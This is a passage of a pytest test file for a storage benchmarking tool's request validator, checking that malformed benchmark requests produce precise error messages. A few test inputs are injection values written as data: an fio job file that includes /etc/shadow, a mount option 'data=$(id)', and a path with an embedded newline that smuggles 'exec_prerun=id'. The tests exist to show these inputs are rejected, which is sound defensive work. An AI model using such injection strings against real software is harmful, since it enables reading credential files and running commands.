        "[j]\nrw=read\ninclude /etc/shadow\n",
        ["[j] sets include, which reads another file"],
        id="fio-include",
    ),
    pytest.param(
        wl({"profile": "fio-custom", "params": {"job_file": "[j]\nrw=read\nsize=${HOME}\n"}}),
        "workloads[0].params.job_file",
        "[j]\nrw=read\nsize=${HOME}\n",
        ["fio would expand an environment variable"],
        id="fio-env-expansion",
    ),
    pytest.param(
        wl({"profile": "fio-custom", "params": {"job_file": "[j]\nrw=read\nverify_async_cpus=0\n"}}),
        "workloads[0].params.job_file",
        "[j]\nrw=read\nverify_async_cpus=0\n",
        ["sets verify_async_cpus: not in storagebench's allow-list", "allowed: I/O pattern"],
        id="fio-unknown-option",
    ),
    pytest.param(
        wl({"profile": "fio-custom", "params": {"job_file": "[j]\nrw=read\nwrite_lat_log=/root/x\n"}}),
        "workloads[0].params.job_file",
        "[j]\nrw=read\nwrite_lat_log=/root/x\n",
        ["[j] sets write_lat_log, which the agent writes the time series"],
        id="fio-log-path",
    ),
    pytest.param(
        wl({"profile": "fio-custom", "params": {"job_file": "[j]\nrw=read\n", "timeseries": 1}}),
        "workloads[0].params.timeseries",
        1,
        ["true or false"],
        id="bool-param-given-int",
    ),
    pytest.param(
        wl({"profile": "command", "params": {"command": "   "}}),
        "workloads[0].params.command",
        "   ",
        ["a non-empty string"],
        id="blank-command",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "scale": 0}), "workloads[0].scale", 0, ["> 0"], id="scale-0"
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "scale": 1000}),
        "workloads[0].scale",
        1000,
        ["<= 100"],
        id="scale-1000",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "repetitions": 0}),
        "workloads[0].repetitions",
        0,
        [">= 1"],
        id="workload-repetitions-0",
    ),
    pytest.param(
        wl({"profile": "std-randread-4k", "id": "Mine"}),
        "workloads[0].id",
        "Mine",
        ["lowercase letters"],
        id="workload-id-capitals",
    ),
    # ---- top level
    pytest.param(top(repetitions=0), "repetitions", 0, [">= 1"], id="repetitions-0"),
    pytest.param(top(repetitions=101), "repetitions", 101, ["<= 100"], id="repetitions-101"),
    pytest.param(
        top(region="mars-1"), "region", "mars-1", ["an AWS region code such as us-east-1"], id="region-mars"
    ),
    pytest.param(
        top(name="Gp2-vs-io1"),
        "name",
        "Gp2-vs-io1",
        ["1-63 lowercase letters, digits and dashes, starting with a letter or digit"],
        id="name-capitals",
    ),
    pytest.param(top(name="a" * 64), "name", "a" * 64, ["1-63 lowercase"], id="name-64-chars"),
    pytest.param(top(name=None), "name", MISSING, ["required"], id="no-name"),
    pytest.param(top(configs=[]), "configs", [], ["at least 1"], id="no-configs"),
    pytest.param(top(workloads=[]), "workloads", [], ["at least 1"], id="no-workloads"),
    pytest.param(top(workloads=None), "workloads", MISSING, ["required"], id="workloads-missing"),
    pytest.param(top(order="random"), "order", "random", ["sequential", "interleaved"], id="order-unknown"),
    pytest.param(
        top(prewarm={"method": "cat"}),
        "prewarm.method",
        "cat",
        ["none", "dd", "fio"],
        id="prewarm-method-unknown",
    ),
    pytest.param(
        top(prewarm={"block_size": "1G"}),
        "prewarm.block_size",
        "1G",
        ["a size such as 128k or 1M"],
        id="prewarm-block-size-1G",
    ),
    pytest.param(
        top(prewarm={"volumes": "new"}),
        "prewarm.volumes",
        "new",
        ["restored", "all", "none"],
        id="prewarm-volumes-unknown",
    ),
    pytest.param(
        top(prewarm={"method": "none", "volumes": "all"}),
        "prewarm.volumes",
        "all",
        ["method none reads nothing", "set method dd or fio, or leave volumes out"],
        id="prewarm-method-none-with-volumes",
    ),
    pytest.param(
        top(prewarm={"method": "none", "sample_gib": 2}),
        "prewarm.sample_gib",
        2,
        ["method none reads nothing", "leave sample_gib out"],
        id="prewarm-method-none-with-sample",
    ),
    pytest.param(
        top(prewarm={"sample_gib": 65}), "prewarm.sample_gib", 65, ["<= 64"], id="prewarm-sample-65-gib"
    ),
    pytest.param(
        top(prewarm={"sample_gib": -1}), "prewarm.sample_gib", -1, [">= 0"], id="prewarm-sample-negative"
    ),
    pytest.param(
        top(prewarm={"sample_gib": "4"}), "prewarm.sample_gib", "4", ["number"], id="prewarm-sample-as-string"
    ),
    pytest.param(
        top(prewarm={"sample_extents": 0}), "prewarm.sample_extents", 0, [">= 1"], id="prewarm-extents-0"
    ),
    pytest.param(
        top(timing={"command_poll_s": 700}), "timing.command_poll_s", 700, ["<= 600"], id="command-poll-700"
    ),
    pytest.param(
        top(timing={"command_timeout_h": 49}),
        "timing.command_timeout_h",
        49,
        ["<= 48"],
        id="command-timeout-49h",
    ),
    # strict types: JSON's own types only, nothing converted
    pytest.param(
        top(repetitions="3"),
        "repetitions",
        "3",
        ["a count (1..100)", "min, max and ci_pct"],
        id="repetitions-as-string",
    ),
    pytest.param(
        tgt(kind="ebs", type="gp3", size_gib=True),
        "configs[0].targets[0].size_gib",
        True,
        ["valid integer"],
        id="size-as-boolean",
    ),
    pytest.param(
        tgt(kind="ebs", type="gp3", size_gib=100.0),
        "configs[0].targets[0].size_gib",
        100.0,
        ["valid integer"],
        id="size-as-float",
    ),
    # mount options: an allow-list per file system
    pytest.param(
        tgt(kind="ebs", type="gp3", size_gib=100, mount_options="noatime,loop,offset=0"),
        "configs[0].targets[0].mount_options",
        "noatime,loop,offset=0",
        ["loop is not a xfs mount option storagebench allows", "offset is not", "allowed: allocsize"],
        id="mount-loop-on-xfs",
    ),
    pytest.param(
        tgt(kind="efs", mount_options="nfsvers=4.1,sec=krb5p"),
        "configs[0].targets[0].mount_options",
        "nfsvers=4.1,sec=krb5p",
        ["sec=krb5p: needs credentials"],
        id="mount-nfs-kerberos",
    ),
    pytest.param(
        tgt(kind="nfs", server="10.0.0.5", export="/share", mount_options="hard,x-systemd.automount"),
        "configs[0].targets[0].mount_options",
        "hard,x-systemd.automount",
        ["x-systemd.automount is not a nfs mount option"],
        id="mount-nfs-systemd",
    ),
    pytest.param(
        tgt(
            kind="fsx_lustre",
            storage_capacity_gib=1200,
            mount_options="flock,context=system_u:object_r:tmp_t:s0",
        ),
        "configs[0].targets[0].mount_options",
        "flock,context=system_u:object_r:tmp_t:s0",
        ["context is not a lustre mount option"],
        id="mount-lustre-selinux-context",
    ),
    pytest.param(
        tgt(kind="ebs", type="gp3", size_gib=100, filesystem="ext4", mount_options="data=$(id)"),
        "configs[0].targets[0].mount_options",
        "data=$(id)",
        ["data=$(id): values are letters, digits"],
        id="mount-value-shell",
    ),
    # images: what each can install, and for which architecture it exists
    pytest.param(
        cfg(image="centos-7"),
        "configs[0].image",
        "centos-7",
        ["al2023", "debian-12", "ami-"],
        id="image-unknown",
    ),
    pytest.param(
        cfg(image="/my/amis/base"),
        "configs[0].image",
        "/my/amis/base",
        ["/aws/service/", "/storagebench/"],
        id="image-foreign-parameter",
    ),
    pytest.param(
        both(cfg(image="al2023"), tgt(kind="ebs", type="gp3", size_gib=100, filesystem="btrfs")),
        "configs[0].targets[0]",
        "ebs on al2023",
        ["Amazon Linux 2023 ships no package for btrfs", "compare-with-al2", "debian-12"],
        id="btrfs-on-al2023",
    ),
    pytest.param(
        both(
            cfg(image="rhel-9"),
            tgt(kind="instance_store", filesystem="btrfs"),
            cfg(instance_type="i3en.large"),
        ),
        "configs[0].targets[0]",
        "instance_store on rhel-9",
        ["Btrfs has been removed", "ubuntu-24.04"],
        id="btrfs-on-rhel-9",
    ),
    pytest.param(
        both(cfg(image="debian-12"), tgt(kind="fsx_lustre", storage_capacity_gib=1200)),
        "configs[0].targets[0]",
        "fsx_lustre on debian-12",
        ["Debian 12 (bookworm) ships no package for the Lustre client", "install-lustre-client", "al2023"],
        id="lustre-on-debian",
    ),
    pytest.param(
        cfg(ebs_optimized=False),
        "configs[0].ebs_optimized",
        False,
        ["c5.4xlarge is always EBS-optimized"],
        id="ebs-optimized-off-on-nitro",
    ),
    # a newline in a local path would be written into fio's directory= as a line of its own (issue 27, 10)
    pytest.param(
        tgt(kind="local", path="/tmp/x\nexec_prerun=id"),
        "configs[0].targets[0].path",
        "/tmp/x\nexec_prerun=id",
        ["an absolute path without control characters"],
        id="local-path-newline",
    ),
    pytest.param(
        tgt(kind="local", path="tmp"),
        "configs[0].targets[0].path",
        "tmp",
        ["an absolute path without control characters"],
        id="local-path-relative",
    ),
    pytest.param(top(max_concurrency=0), "max_concurrency", 0, [">= 1"], id="max-concurrency-0"),
    pytest.param(top(max_concurrency=41), "max_concurrency", 41, ["<= 40"], id="max-concurrency-41"),
]


@pytest.mark.parametrize(("edit", "path", "value", "fragments"), CASES)
def test_invalid_request(
    minimal: dict[str, Any], edit: Edit, path: str, value: Any, fragments: list[str]
) -> None:
    edit(minimal)
    errors = errors_of(minimal)
    assert [e.path for e in errors] == [path], [str(e) for e in errors]
    error = errors[0]
    for fragment in fragments:
        assert fragment in error.message, (fragment, str(error))
    for leak in LEAKS:
        assert leak not in error.message
    if value is MISSING:
        assert error.as_dict()["value"] is None
        assert "(got" not in str(error)
    else:
        assert error.value == value
        shown = json.dumps(value)
        if isinstance(value, str | int | float | bool) and len(shown) <= 80:
            assert f"(got {shown})" in str(error)
    assert str(error).startswith(f"{path}: ")


def test_the_table_is_large_enough() -> None:
    assert len(CASES) >= 40


# --------------------------------------------------------------------------- several problems at once


def test_two_field_problems_in_different_configs_are_both_reported(minimal: dict[str, Any]) -> None:
    minimal["configs"][0]["targets"][0]["iops"] = 1
    second_config(targets=[{"kind": "ebs", "type": "st1", "size_gib": 100}])(minimal)
    errors = errors_of(minimal)
    assert [e.path for e in errors] == ["configs[0].targets[0].iops", "configs[1].targets[0].size_gib"]


def test_top_level_and_nested_problems_are_both_reported(minimal: dict[str, Any]) -> None:
    minimal["region"] = "mars-1"
    minimal["configs"][0]["targets"][0]["size_gib"] = 0
    minimal["workloads"][0]["scale"] = 0
    assert sorted(e.path for e in errors_of(minimal)) == [
        "configs[0].targets[0].size_gib",
        "region",
        "workloads[0].scale",
    ]


def test_one_file_gateway_per_config(minimal: dict[str, Any]) -> None:
    minimal["configs"][0]["targets"] = [{**GATEWAY, "id": "a"}, {**GATEWAY, "id": "b"}]
    errors = errors_of(minimal)
    assert [e.path for e in errors] == ["configs[0].targets[1].kind"]
    assert "one file gateway per config (targets[0] is one)" in errors[0].message


def test_gateway_cache_total_is_at_most_64_tib(minimal: dict[str, Any]) -> None:
    disks = [{"type": "sc1", "size_gib": 16_384}] * 5
    minimal["configs"][0]["targets"] = [{**GATEWAY, "cache_volumes": disks}]
    errors = errors_of(minimal)
    assert [(e.path, e.value) for e in errors] == [("configs[0].targets[0].cache_volumes", 81_920)]
    assert "at most 65,536 GiB in all" in errors[0].message


def test_field_problem_and_baseline_are_both_reported(minimal: dict[str, Any]) -> None:
    minimal["baseline"] = "zz"
    minimal["configs"][0]["targets"][0]["iops"] = 1
    assert sorted(e.path for e in errors_of(minimal)) == ["baseline", "configs[0].targets[0].iops"]


def test_duplicate_config_ids_reported_with_a_field_problem(minimal: dict[str, Any]) -> None:
    second_config(id="a", targets=[{"kind": "ebs", "type": "io1", "size_gib": 100}])(minimal)
    assert sorted(e.path for e in errors_of(minimal)) == ["configs[1].id", "configs[1].targets[0].iops"]


def test_every_problem_in_one_target(minimal: dict[str, Any]) -> None:
    minimal["configs"][0]["targets"] = [
        {
            "kind": "ebs",
            "type": "gp3",
            "size_gib": 8,
            "iops": 5000,
            "throughput_mibps": 2000,
            "initialization_rate_mibps": 200,
            "layout": "jbod",
            "count": 2,
        }
    ]
    assert sorted(e.path for e in errors_of(minimal)) == [
        f"{PREFIX}.initialization_rate_mibps",
        f"{PREFIX}.iops",
        f"{PREFIX}.layout",
        f"{PREFIX}.throughput_mibps",
    ]


def test_every_bad_param_is_reported(minimal: dict[str, Any]) -> None:
    minimal["workloads"] = [
        {
            "profile": "std-randread-4k",
            "params": {"bs": "4x", "iodepth": 0, "colour": "red", "runtime": [1, 2]},
        }
    ]
    assert sorted(e.path for e in errors_of(minimal)) == [
        "workloads[0].params.bs",
        "workloads[0].params.colour",
        "workloads[0].params.iodepth",
        "workloads[0].params.runtime",
    ]


def test_request_error_message_lists_every_problem(minimal: dict[str, Any]) -> None:
    minimal["region"] = "mars-1"
    minimal["repetitions"] = 0
    with pytest.raises(RequestError) as caught:
        parse_request(minimal)
    text = str(caught.value)
    assert text.startswith("invalid benchmark request (2 problems):\n")
    assert '  region: must be an AWS region code such as us-east-1 (got "mars-1")' in text
    assert "  repetitions: must be >= 1 (got 0)" in text


def test_one_problem_is_singular(minimal: dict[str, Any]) -> None:
    minimal["region"] = "mars-1"
    with pytest.raises(RequestError, match=r"^invalid benchmark request \(1 problem\):"):
        parse_request(minimal)


def test_duplicate_suite_is_reported_at_the_second_reference(minimal: dict[str, Any]) -> None:
    minimal["workloads"] = [{"suite": "standard"}, {"profile": "std-randread-4k"}]
    errors = errors_of(minimal)
    assert [(e.path, e.value) for e in errors] == [("workloads[1].id", "std-randread-4k")]


def test_unknown_profile_without_close_match_has_no_hint(minimal: dict[str, Any]) -> None:
    minimal["workloads"] = [{"profile": "zzzz"}]
    (error,) = errors_of(minimal)
    assert error.path == "workloads[0].profile"
    assert "did you mean" not in error.message
    assert "unknown workload profile 'zzzz'" in error.message


def test_workload_reference_problems_reported_alongside_a_field_problem(minimal: dict[str, Any]) -> None:
    minimal["region"] = "mars-1"
    minimal["workloads"] = [
        {"profile": "std-randread-4k", "targets": ["nope"]},
        {"profile": "std-randread-4k"},
    ]
    assert sorted(e.path for e in errors_of(minimal)) == [
        "region",
        "workloads[0].targets[0]",
        "workloads[1].id",
    ]


def test_bad_sweep_members_are_named(minimal: dict[str, Any]) -> None:
    minimal["workloads"] = [{"profile": "std-randread-4k", "params": {"iodepth": [1, 0, "x"]}}]
    errors = errors_of(minimal)
    assert [e.path for e in errors] == ["workloads[0].params.iodepth[1]", "workloads[0].params.iodepth[2]"]
    assert [e.value for e in errors] == [0, "x"]


# --------------------------------------------------------------------------- rules the model misses


def test_fio_custom_without_job_file_is_invalid(minimal: dict[str, Any]) -> None:
    minimal["workloads"] = [{"profile": "fio-custom"}]
    errors = errors_of(minimal)
    assert [e.path for e in errors] == ["workloads[0].params.job_file"]
    assert "required" in errors[0].message


def test_command_without_command_is_invalid(minimal: dict[str, Any]) -> None:
    minimal["workloads"] = [{"profile": "command"}]
    errors = errors_of(minimal)
    assert [e.path for e in errors] == ["workloads[0].params.command"]


@pytest.mark.parametrize("volume_type", ["st1", "sc1"])
def test_hdd_root_volume_is_invalid(minimal: dict[str, Any], volume_type: str) -> None:
    minimal["configs"][0]["root_volume"] = {"type": volume_type, "size_gib": 125}
    assert [e.path for e in errors_of(minimal)] == ["configs[0].root_volume.type"]


# --------------------------------------------------------------------------- documents and files


@pytest.mark.parametrize("document", [[], "request", 3, None, True, [{"name": "x"}]])
def test_non_object_document(document: Any) -> None:
    (error,) = errors_of(document)
    assert error.path == "(request)"
    assert error.message == "must be a JSON object"
    assert error.as_dict() == {
        "path": "(request)",
        "value": document,
        "message": "must be a JSON object",
        "missing": False,
    }


def test_load_request_json_syntax_error_names_line_and_column(tmp_path: Path) -> None:
    path = tmp_path / "bad.json"
    path.write_text('{"name": "t",\n  "configs": [,]\n}', encoding="utf-8")
    with pytest.raises(RequestError) as caught:
        load_request(path)
    (error,) = caught.value.errors
    assert error.path == str(path)
    assert error.message.startswith("not valid JSON at line 2 column 15:")
    assert error.as_dict()["value"] is None
    assert "(got" not in str(error)


def test_load_request_trailing_comma(tmp_path: Path) -> None:
    path = tmp_path / "bad.json"
    path.write_text('{\n  "name": "t",\n}\n', encoding="utf-8")
    # 3.11 reports the closing brace (line 3 column 1), 3.13 the comma itself (line 2 column 14).
    with pytest.raises(RequestError, match=r"not valid JSON at line [23] column \d+"):
        load_request(path)


def test_load_request_empty_file(tmp_path: Path) -> None:
    path = tmp_path / "empty.json"
    path.write_text("", encoding="utf-8")
    with pytest.raises(RequestError, match=r"not valid JSON at line 1 column 1"):
        load_request(path)


def test_load_request_non_object(tmp_path: Path) -> None:
    path = tmp_path / "list.json"
    path.write_text("[1, 2]", encoding="utf-8")
    with pytest.raises(RequestError) as caught:
        load_request(path)
    assert [(e.path, e.message) for e in caught.value.errors] == [("(request)", "must be a JSON object")]


def test_load_request_missing_file(tmp_path: Path) -> None:
    path = tmp_path / "nope.json"
    with pytest.raises(RequestError) as caught:
        load_request(path)
    (error,) = caught.value.errors
    assert error.path == str(path)
    assert error.message == "cannot read the file: No such file or directory"


def test_load_request_reports_field_errors(tmp_path: Path, minimal: dict[str, Any]) -> None:
    minimal["region"] = "mars-1"
    path = tmp_path / "r.json"
    path.write_text(json.dumps(minimal), encoding="utf-8")
    with pytest.raises(RequestError) as caught:
        load_request(path)
    assert [e.path for e in caught.value.errors] == ["region"]


# --------------------------------------------------------------------------- FieldError


def test_field_error_as_dict_shape(minimal: dict[str, Any]) -> None:
    minimal["configs"][0]["targets"][0]["iops"] = 1
    (error,) = errors_of(minimal)
    assert error.as_dict() == {
        "path": "configs[0].targets[0].iops",
        "value": 1,
        "message": "gp3 allows 3,000..50,000 IOPS for 100 GiB (500 per GiB, at most 80,000)",
        "missing": False,
    }
    json.dumps(error.as_dict())


def test_field_error_as_dict_for_a_missing_value(minimal: dict[str, Any]) -> None:
    del minimal["name"]
    (error,) = errors_of(minimal)
    assert error.as_dict() == {"path": "name", "value": None, "message": "required", "missing": True}
    assert str(error) == "name: required"


def test_field_error_as_dict_keeps_json_values(minimal: dict[str, Any]) -> None:
    minimal["workloads"] = [{"suite": "standard", "params": {"bs": "4k"}}]
    (error,) = errors_of(minimal)
    assert error.as_dict()["value"] == {"bs": "4k"}


def test_field_error_as_dict_reprs_what_json_cannot_hold() -> None:
    error = FieldError("x", {1, 2}, "bad")
    assert error.as_dict() == {"path": "x", "value": "{1, 2}", "message": "bad", "missing": False}


def test_field_error_str_truncates_long_values() -> None:
    text = str(FieldError("command", "y" * 200, "too long"))
    assert text.startswith('command: too long (got "yyyy')
    assert text.endswith("...)")
    assert len(text) < 120
